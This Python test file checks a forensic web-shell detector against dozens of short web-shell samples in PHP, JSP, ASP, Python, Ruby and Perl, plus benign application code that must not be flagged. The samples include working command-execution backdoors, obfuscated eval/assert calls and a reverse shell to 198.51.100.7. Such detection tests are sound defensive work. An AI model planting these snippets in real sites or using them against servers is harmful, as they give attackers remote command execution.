"""Whether a script is a web shell, by its code: the forms that public collections have, and what well-known applications do.

The forms are those that the rules missed, or accused wrongly, over 1,197 scripts of three public collections of web shells and 15,000 PHP
files of WordPress 4.2, CakePHP, Postfix Admin, phpBB 3.2, MyBB, DokuWiki, Roundcube, OpenCart, Grav and Adminer (WordPress had 28 false ones,
a web server's log 130 uses of them). The samples are the project's own.
"""

from __future__ import annotations

import time

import pytest

from forensic_toolkit.rules.web_shell_code import MOST, what_it_does

SHELLS = {
    "variable": "<?php $x = trim($_POST['a']); $y = \"sh -c \" . $x; $r = shell_exec($y); echo $r;",
    "old names": "<?php $c = $HTTP_POST_VARS['cmd']; passthru($c);",
    "header": "<?php @system($_SERVER['HTTP_X_TOKEN']);",
    "backtick": "<?php echo `{$_REQUEST['q']} 2>&1`;",
    "wrapper": "<?php function run($what) { $out = array();\n exec($what, $out);\n return $out; }\n print_r(run($_GET['do']));",
    "each": "<?php foreach ($_COOKIE as $name => $value) { assert($value); }",
    "extract": "<?php extract($_REQUEST); eval($body);",
    "raw body": "<?php eval(file_get_contents('php://input'));",
    "decoded": "<?php $p = base64_decode('cGhwaW5mbygpOw=='); eval($p);",
    "modifier": "<?php preg_replace('/.*/e', $_POST['z'], 'a');",
    "called by a name": "<?php $f = str_rot13('flfgrz'); $f($_GET['c']);",
    "put together": "<?php $a = 'as' . 'sert'; $a($x);",
    "include": "<?php include($_GET['page']);",
    "reverse": "<?php $s = fsockopen('198.51.100.7', 443); $p = proc_open('/bin/sh -i', $d, $pipes);",
    "upload": "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to'] . '/' . $_FILES['f']['name']);",
    "here document": "<?php\n$c = <<<'EOT'\n `ls` // */ \n  EOT;\n$x = $_GET['x']; system($x);",
    "behind a comment's end": "<?php // harmless ?><?php system($_GET['x']); /* */ ?>",
    "behind a text with a comment": "<?php $a = '/*'; system($_GET['x']); $b = '*/';",
    "attribute": "<?php #[A]\nsystem($_GET['x']);",
    "short tag": "<? system($_GET['x']) ?>",
    "short echo": "<?=`$_GET[0]`?>",
    "old tag": "<script language='php'>system($_GET['x']);</script>",
    "function with a global": "<?php $c = $_POST['c']; function go() { global $c; passthru($c); } go();",
    "global that a function sets": "<?php function get() { global $c; $c = $_POST['c']; } function go() { global $c; passthru($c); }",
    "method": "<?php class A { function run($a, $cmd) { return shell_exec($cmd); } } (new A)->run(1, $_GET['c']);",
    "closure": "<?php $c = $_GET['c']; add('x', function () use ($c) { system($c); });",
    "never closed": "<?php system($_GET['x']); /* ",
    "callback": "<?php array_map('assert', $_POST);",
    "callback of another form": "<?php array_map(\"ass\\x65rt\", (array) $_REQUEST['x']);",
    "callback that is put together": "<?php $a = join(array_diff(['s', 'a', 'ys'], ['a'])); array_map($a, (array) $_REQUEST['1']);",
    "callback by its name": "<?php call_user_func_array(assert, array($_POST['x']));",
    "callback in a request": "<?php call_user_func($_GET['f'], $_GET['x']);",
    "callback by a variable": "<?php $f = trim($_POST['f']); call_user_func($f, $x);",
    "second argument": "<?php usort($list, $_POST['f']);",
    "input as code": "<?php include('php://input');",
    "letters": "<?php @$_=\"s\".\"s\"./*-/*-*/\"e\".\"r\";@$_=\"a\".$_.\"t\";@$_/*-*/($/*-*/{\"_P\".\"OST\"}[0]);",
    "JSP by a variable": '<% String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(c); %>',
    "JSP by a class loader": '<% new U(this.getClass().getClassLoader()).g(b64(request.getParameter("p"))).newInstance(); class U { Class g(byte[] b) { return defineClass(b,0,b.length); } } %>',
    "ASP": '<%execute request("z")%>',
    "ASP.NET": '<%@ Page %><% var p = new ProcessStartInfo("cmd.exe"); %>',
    "Python CGI": "import cgi, os\nform = cgi.FieldStorage()\nprint(os.popen(form.getvalue('c')).read())",
    "Flask": "@app.route('/x')\ndef x():\n    return subprocess.check_output(request.args.get('c'), shell=True)",
    "Sinatra": "get '/x' do\n  `#{params[:c]}`\nend",
    "CGI": '#!/usr/bin/perl\nmy $c = $ENV{"QUERY_STRING"}; system("$ENV{QUERY_STRING}");',
}  # fmt: skip
HONEST = {
    "argv in a comment": "<?php\n/**\n * `$_SERVER['argv']` is used.\n */\nclass Input { function __construct() { $argv = $_SERVER['argv']; } }",
    "method": "<?php $db->exec($_POST['query']); $result['exec'] = Curl::exec($_GET['u']);",
    "in a comment": "<?php\n/** Runs `$_REQUEST['action']`, see system ( $_GET ). */\n# eval($_POST)\n// assert($_GET['x'])\n$a = $_GET['a'];",
    "documented hooks": "<?php $action = $_REQUEST['action'];\n/* The dynamic portion, `$action`, refers to it. */ do_action($action);",
    "cleaned list": "<?php $ids = array_map( 'absint', explode( ',', $_REQUEST['ids'] ) ); $x = array_filter(array_map('trim', $_POST['a']));",
    "backticks of SQL": "<?php $t = $_GET['t']; $r = q(\"SELECT * FROM `$t` WHERE a = 1\");",
    "the output of a program": "<?php $retval = $_POST['x']; exec($command, $output, $retval);",
    "another function's variable": "<?php function a() { $cmd = $_GET['cmd']; } function b() { $cmd = 'ls'; return shell_exec($cmd); }",
    "method of an object": "<?php call_user_func(array($this, $_GET['do']));",
    "prefix": "<?php call_user_func('do_' . $_GET['a'], 1);",
    "registered": "<?php foreach ($_POST as $n => $form) { call_user_func_array($form['callback'], $form['params']); }",
    "looked up": "<?php $name = $_POST['w']; foreach ($all as $n => $control) { if ($n == $name) { $cb = $control; call_user_func_array($cb, $p); } }",
    "class by a name": "<?php $c = str_replace('.class.php', '', $file); $p = new $c('x'); $a = $_GET['a'];",
    "page around it": "<?php $a = $_GET['a']; ?><p>system($a) `$a`</p><script>eval(location)</script>",
    "escaped": "<?php system('convert ' . escapeshellarg($_POST['file']));",
    "number": "<?php exec('kill ' . (int) $_GET['pid']);",
    "old templates": "<?php $v = $_GET['x']; eval(\"\\$level = \\\"\".$templates->get('warning_' . $v).\"\\\";\");",
    "modifier without code": "<?php $t = preg_replace('/{L_([A-Z_]+)}/e', \"(!empty(\\$lang['\\$1'])) ? 1 : 0\", $t);",
    "modifier in the words": "<?php $a = preg_replace('/!(.*)!([a-z]*)/', '$1', $m); $b = 'extended';",
    "server's own": "<?php exec('ls ' . $_SERVER['DOCUMENT_ROOT']);",
    "fixed upload": "<?php move_uploaded_file($_FILES['f']['tmp_name'], UPLOADS . '/' . md5(rand()) . '.png');",
    "JavaScript": "<?php ?><script>var x = /a/.exec(location.search); eval(request);</script>",
    "a library's server": "class Proxy:\n    def process(self):\n        'Handle this request'\n        self.pid = Process(self, request.uri, request)",
    "a library's debugger": "def run(request):\n    return eval(request, globals())  # execute request",
    "a library that formats": "def p(request):\n    print('<%s %r>' % (request, 1))\n    return eval(request)",
    "a tool that formats": "import os\nos.popen('git show --quiet --pretty=format:%s').read()",
    "a kernel's script": "my $cmd = 'git log'; my @lines = `$cmd`; die if param($x);".replace("param", "parameters"),
    "a page": '<%= request.getParameter("name") %>',
}  # fmt: skip


@pytest.mark.parametrize("name", SHELLS)
def test_what_web_shells_do_is_seen(name: str) -> None:
    assert what_it_does(SHELLS[name]) is not None


@pytest.mark.parametrize("name", HONEST)
def test_what_applications_do_is_not_accused(name: str) -> None:
    assert what_it_does(HONEST[name]) is None


@pytest.mark.parametrize(
    "padding",
    [
        *(
            " ",
            "(",
            "$a=",
            "function f($a){",
            "/*",
            "`",
            "foreach($_GET as ",
            "\\x65",
            "<?php ?>",
            "<<<A\n",
            "<<<A\nA\n",
            "'\\'",
            "{",
            "global $a;",
            "//\n",
        ),
        *("function f($a){ global $c; system($a); ", "f(f(f(", "array_map($a, ", "system(a, "),
    ],
)
def test_a_script_that_is_made_to_keep_its_reader_busy_takes_seconds(padding: str) -> None:
    began = time.process_time()
    what_it_does("<?php $_GET; " + padding * (MOST // len(padding)))
    assert time.process_time() - began < 60


@pytest.mark.parametrize("before", [0, MOST // 2, MOST - 10, 3 * MOST])
def test_a_shell_is_seen_wherever_it_is_in_a_large_script(before: int) -> None:
    filling = "$a = 1; "
    text = "<?php " + filling * (before // len(filling)) + SHELLS["variable"][5:] + filling * (4 * MOST // len(filling))
    assert what_it_does(text) is not None
